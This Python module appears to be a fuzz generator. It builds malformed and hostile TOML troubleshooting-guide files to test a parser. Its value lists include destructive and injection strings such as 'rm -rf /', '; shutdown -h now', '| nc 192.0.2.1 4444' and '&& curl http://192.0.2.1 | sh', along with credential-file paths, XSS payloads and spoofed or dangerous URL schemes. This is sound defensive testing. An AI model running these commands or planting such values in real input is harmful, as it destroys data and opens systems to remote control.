"""Guides that somebody wrote to do harm, or by accident: from a seed, without end."""

import random
from collections.abc import Callable
from functools import cache
from importlib.resources import files

from app.guides.model import KEEP_WORKING, OWNERS, PAGES, SYSTEMS
from app.guides.verb import VERBS
from diagnostics.wording import Wording

CHECKS = Wording.load("en").ids("check")
KEYS = (
    *("schema", "id", "cause", "version", "title", "title.en", "minutes", "owner", "keep_working", "it_needs", "steps"),
    *("stop.fr", "who", "text", "text.en", "text_windows.fr", "by_hand.en", "only_on", "reasons", "verb", "on", "page"),
    *("link", "check", "measure", "settle_s", "undo.en", "answers", "go", "on_better", "on_fail", "run", "command"),
    *('"a\\nb"', '"\\u202e"', "'<b>'", "text.en.en", "steps.text", "-", "é", "", "shell.exec.argv"),
)
TEXTS = (
    *("Do it.", "Enfoncez le câble.", "Tell {it_name}.", "x" * 301, "", " ", " x", "a  b", "{", "{hole}", "{it_name"),
    *("rm -rf /", "$(reboot)", "`reboot`", "; shutdown -h now", "| nc 192.0.2.1 4444", "&& curl http://192.0.2.1 | sh"),
    *(
        "../../etc/passwd",
        "/etc/shadow",
        "C:\\Windows\\System32\\cmd.exe",
        "\\\\192.0.2.1\\share\\x.exe",
        "..",
        "~/.ssh",
    ),
    *(
        "<b>rm -rf /</b>",
        "<a href='file:///etc/passwd'>here</a>",
        "<img src=x onerror=alert(1)>",
        "&lt;b&gt;",
        "%n%s%x",
    ),
    *(
        "a\nb",
        "a\r\nb",
        "a\x00b",
        "a\tb",
        "a\x1b[31mb",
        "a\u202eb",
        "a\u2066b",
        "a\u200bb",
        "a\u2028b",
        "a\ufeffb",
        "\x7f",
    ),
    *("a\u0085b", "\U000e0041", "\ue000", "\ufdd0", "e\u0301" * 40, "\U0001f4a3", "a\u00a0: b", "\u3000", "\u061c"),
)
WORDS = (
    *("plug", "renew", "next", "stop", "s0", "s1", "s2", "s3", "gone", "NEXT", "../plug", "plug\n", "1" * 65, "a..b"),
    *(
        "none",
        "None",
        "exec",
        "run",
        "shell",
        "dns.flush --all",
        "dns.flush; reboot",
        "dns.flush\n",
        "DNS.FLUSH",
        "dns",
    ),
    *("proxy.reset_user", "firewall.off", "router.factory_reset", "settings.open ", "dhcp.renew.eth0", "$(dns.flush)"),
    *("you", "app", "it", "root", "user", "nobody", "windows", "linux", "beos", "wifi", "network", "/bin/sh", "--help"),
    *("hotspot", "link.adapters", "internet.addresses", "reboot", *VERBS, *PAGES, *OWNERS, *SYSTEMS, *KEEP_WORKING),
)
LINKS = (
    *(
        "https://help.example.org/a?b=c#d",
        "https://help.example.org:8443/",
        "ms-settings:network-wifi",
        "https://example.org",
    ),
    *("x-apple.systempreferences:com.apple.Network-Settings.extension", "http://example.org", "HTTPS://example.org/"),
    *("javascript:alert(1)", "file:///bin/sh", "ms-msdt:/id PCWDiagnostic", "smb://192.0.2.1/x", "data:text/html,x"),
    *(
        "https://bank.example@192.0.2.1/",
        "https://",
        "https:///etc",
        "https://a b",
        'https://a.example/"onclick="x',
        "//x",
    ),
    *("https://example.org/<script>", "https://example.org/'x", "ms-settings:../../x", "ms-settings:", "vbscript:x"),
    *(
        "https://exam\u0440le.org/",
        "https://example.org/\u202egpj",
        "https://example.org/" + "a" * 400,
        " https://example.org",
    ),
    *("x-apple.systempreferences:/bin/sh", "ms-settings:network /c calc", "https://example.org\\@192.0.2.1"),
)
RAW = (  # TOML that is no text, or none at all
    *(
        "1",
        "0",
        "-1",
        "15",
        "121",
        "9" * 30,
        "9" * 4299,
        "9" * 4301,
        "1e400",
        "nan",
        "-inf",
        "0x7fffffffffffffff",
        "true",
    ),
    *(
        "[]",
        "[[]]",
        "{}",
        "[1]",
        '["a", 1]',
        "[" * 90 + "]" * 90,
        "{a = {b = {c = {d = {e = 1}}}}}",
        "1979-05-27",
        "2024-13-45",
    ),
    *(
        '"\\ud800"',
        '"\\udfff\\ud800"',
        '"\\U00110000"',
        '"\\x41"',
        '"unfinished',
        "'''",
        '"""\nrm -rf /\n"""',
        "rm -rf /",
        "$(id)",
    ),
    *("[" * 3000, "{a=" * 900, "", "=", "1 2", "\x00", "'\x07'", '["https://example.org/"]', "99999-01-01T00:00:00Z"),
)
BYTES = (
    b"\xff",
    b"\xc0\xaf",
    b"\xed\xa0\x80",
    b"\xf4\x90\x80\x80",
    b"\x00",
    b"\xef\xbb\xbf",
    b"\xfe\xff",
    b"\r",
    b"\x1a",
    b"\xe2",
)


@cache
def built_in() -> tuple[bytes, ...]:
    """The guides of the program, as they stand."""
    found = [file for file in files("resources.guides").iterdir() if file.name.endswith(".toml")]
    return tuple(file.read_bytes() for file in sorted(found, key=lambda file: file.name))


def a_guide(dice: random.Random) -> bytes:
    """One of ours: now and then whole, mostly its head and one or two steps, which is as good and read much faster."""
    data = dice.choice(built_in())
    if dice.random() < 0.05:
        return data
    head, *steps = data.split(b"[[steps]]\n")
    start = dice.randrange(len(steps))
    return b"[[steps]]\n".join((head, *steps[start : start + dice.choice((1, 1, 2))]))


def quoted(text: str) -> str:
    """A text as TOML: any character, as far as TOML can write it."""
    escaped = "".join(
        char
        if char.isprintable() and char not in '"\\'
        else f"\\U{ord(char):08x}"
        if char not in '"\\'
        else f"\\{char}"
        for char in text
    )
    return f'"{escaped}"'


def value(dice: random.Random) -> str:
    """Any value, mostly of the kind that guides have."""
    kind = dice.random()
    if kind < 0.3:
        return quoted(dice.choice(WORDS))
    if kind < 0.5:
        return quoted(dice.choice(TEXTS))
    if kind < 0.6:
        return quoted(dice.choice(LINKS))
    if kind < 0.7:
        return "[" + ", ".join(quoted(dice.choice(WORDS)) for _ in range(dice.choice((1, 2, 3, 60)))) + "]"
    if kind < 0.75:
        return f"{{en = {quoted(dice.choice(TEXTS))}, fr = {quoted(dice.choice(TEXTS))}}}"
    return dice.choice(RAW)


# ---------------------------------------------------------------------------------------------- a built-in guide, bent


def cut_off(dice: random.Random, data: bytes) -> bytes:
    return data[: dice.randrange(len(data) + 1)]


def line_gone(dice: random.Random, data: bytes) -> bytes:
    lines = data.split(b"\n")
    del lines[dice.randrange(len(lines))]
    return b"\n".join(lines)


def line_twice(dice: random.Random, data: bytes) -> bytes:
    lines = data.split(b"\n")
    lines.insert(dice.randrange(len(lines)), dice.choice(lines))
    return b"\n".join(lines)


def line_more(dice: random.Random, data: bytes) -> bytes:
    lines = data.split(b"\n")
    lines.insert(dice.randrange(len(lines)), f"{dice.choice(KEYS)} = {value(dice)}".encode("utf-8", "replace"))
    return b"\n".join(lines)


def other_value(dice: random.Random, data: bytes) -> bytes:
    lines = data.split(b"\n")
    place = dice.randrange(len(lines))
    key, equals, _ = lines[place].partition(b" = ")
    lines[place] = key + equals + value(dice).encode("utf-8", "replace") if equals else lines[place]
    return b"\n".join(lines)


def other_text(dice: random.Random, data: bytes) -> bytes:
    """A text that a person would read, replaced by one that she should only read."""
    lines = data.split(b"\n")
    places = [place for place, line in enumerate(lines) if line.startswith((b"text.en", b"title.en", b"stop.en"))]
    place = dice.choice(places or [0])
    lines[place] = lines[place].partition(b" = ")[0] + b" = " + quoted(dice.choice(TEXTS)).encode("utf-8", "replace")
    return b"\n".join(lines)


def key_in_a_step(dice: random.Random, data: bytes) -> bytes:
    """A verb, a way back, a page, a link or a question, where a step begins."""
    key, values = dice.choice(
        (
            ("verb", WORDS), ("verb", VERBS), ("on_fail", WORDS), ("on_better", WORDS), ("page", PAGES), ("on", TEXTS),
            ("link", LINKS), ("link", LINKS), ("who", WORDS), ("go", WORDS), ("by_hand.en", TEXTS),
        )
    )  # fmt: skip
    line = f"[[steps]]\n{key} = {quoted(dice.choice(values))}\n".encode("utf-8", "replace")
    return data.replace(b"[[steps]]\n", line, 1)


def question(dice: random.Random, data: bytes) -> bytes:
    """One more question at the end, whose answers lead somewhere."""
    answers = "".join(
        f"[[steps.answers]]\nid = {quoted(dice.choice(WORDS))}\nen = {quoted(dice.choice(TEXTS))}\nfr = 'x'\n"
        f"go = {quoted(dice.choice(WORDS))}\n"
        for _ in range(dice.choice((1, 2, 7)))
    )
    head = (
        '\n[[steps]]\nid = "q"\nwho = "you"\nminutes = 1\ntext.en = "What do you see?"\ntext.fr = "Que voyez-vous ?"\n'
    )
    return data + (head + answers).encode("utf-8", "replace")


def bytes_within(dice: random.Random, data: bytes) -> bytes:
    place = dice.randrange(len(data) + 1)
    return data[:place] + dice.choice(BYTES) + data[place:]


def byte_changed(dice: random.Random, data: bytes) -> bytes:
    if not data:
        return data
    place = dice.randrange(len(data))
    return data[:place] + bytes([dice.randrange(256)]) + data[place + 1 :]


def part_twice(dice: random.Random, data: bytes) -> bytes:
    start = dice.randrange(len(data) + 1)
    return data + data[start : start + dice.randrange(2000)]


BENDS: tuple[Callable[[random.Random, bytes], bytes], ...] = (
    *(cut_off, line_gone, line_twice, line_more, other_value, other_value, other_text, other_text, key_in_a_step),
    *(key_in_a_step, question, bytes_within, byte_changed, part_twice),
)


def bent(dice: random.Random) -> bytes:
    """A guide of ours with one to three changes."""
    data = a_guide(dice)
    for _ in range(dice.choice((1, 1, 1, 2, 3))):
        data = dice.choice(BENDS)(dice, data)
    return data


# ------------------------------------------------------------------------------------------------- written from scratch


def written(dice: random.Random) -> bytes:
    """A guide that is in order apart from what chance puts in."""
    odd = dice.choice((0.0, 0.02, 0.1))

    def either(good: str, values: tuple[str, ...]) -> str:
        return quoted(dice.choice(values)) if dice.random() < odd else good

    names = [f"s{number}" for number in range(dice.choice((1, 1, 2, 2, 3, 3, 4, dice.choice((3, 15, 16)))))]
    lines = [
        "schema = 1", f"id = {either(quoted('hostile'), WORDS)}", f"cause = {either(quoted('isp.down'), WORDS)}",
        f"version = {dice.choice(RAW) if dice.random() < odd else 1}",
        f"minutes = {dice.choice(RAW) if dice.random() < odd else 120}",
        'owner = "user"', f"title.en = {either(quoted('Hostile'), TEXTS)}", 'title.fr = "Hostile"',
        f"stop.en = {either(quoted('Stop.'), TEXTS)}", 'stop.fr = "Stop."',
    ]  # fmt: skip
    for number, name in enumerate(names):
        later = ("next", "stop", *names[number + 1 :])
        verb = dice.choice((*VERBS, "brew.coffee"))
        asks = dice.random() < 0.15
        lines += [
            "[[steps]]", f"id = {quoted(name)}", f"who = {either(quoted('you' if asks else 'app'), WORDS)}",
            f"text.en = {quoted(dice.choice(TEXTS)) if dice.random() < 2 * odd else quoted('Do it.')}",
            'text.fr = "Faites."', "minutes = 1",
        ]  # fmt: skip
        if asks:
            lines += [
                f"[[steps.answers]]\nid = 'a{place}'\nen = {either(quoted('Yes'), TEXTS)}\nfr = 'Oui'\n"
                f"go = {either(quoted(dice.choice(later)), (*WORDS, *names))}"
                for place in range(dice.choice((1, 3, 6)))
            ]
            continue
        lines += [
            f"verb = {either(quoted(verb), WORDS)}",
            f"on_fail = {either(quoted(dice.choice(later)), (*WORDS, *names))}",
            f"on_better = {either(quoted(dice.choice(later)), (*WORDS, *names))}",
            f"check = [{quoted(dice.choice(CHECKS))}]",
        ]
        if verb == "settings.open":
            lines.append(f"page = {either(quoted(dice.choice(PAGES)), WORDS)}")
        if dice.random() < 0.3:
            lines.append(f"link = {quoted(LINKS[0]) if dice.random() > 3 * odd else quoted(dice.choice(LINKS))}")
        if verb.startswith("vpn.") and dice.random() < 0.5:
            lines.append(f"on = {either(quoted('Head office'), TEXTS)}")
    return "\n".join(lines).encode("utf-8", "replace")


def nested(dice: random.Random) -> bytes:
    """Deep, long or endless things, up to the size that is read."""
    deep = dice.choice((4, 5, 6, 50, 400, 1900, 3000))
    name = dice.choice(("a", "steps", "text", '"x"'))
    kinds = (
        lambda: ".".join([name] * deep) + " = 1",
        lambda: "[" + ".".join([name] * deep) + "]",
        lambda: "[[" + ".".join([name] * min(deep, 400)) + "]]",
        lambda: f"{name} = " + "[" * deep + "]" * deep,
        lambda: f"{name} = " + "{a = " * deep + "1" + "}" * deep,
        lambda: "[[steps]]\n" * deep,
        lambda: f"{name} = [" + "[],\n" * deep + "]",
        lambda: f"{name} = " + "9" * deep,
        lambda: f"{name} = {'#' * deep}",
        lambda: "\n".join(f"k{number} = 1" for number in range(deep)),
    )
    text = dice.choice(kinds)() + "\n"
    return (a_guide(dice) + text.encode()) if dice.random() < 0.3 else text.encode()


def noise(dice: random.Random) -> bytes:
    """No guide at all."""
    size = dice.choice((0, 1, 10, 300))
    if dice.random() < 0.5:
        return dice.randbytes(size)
    return "".join(dice.choice("[]{}=\"'#.\n\\ abc1{}\u202e") for _ in range(size)).encode()
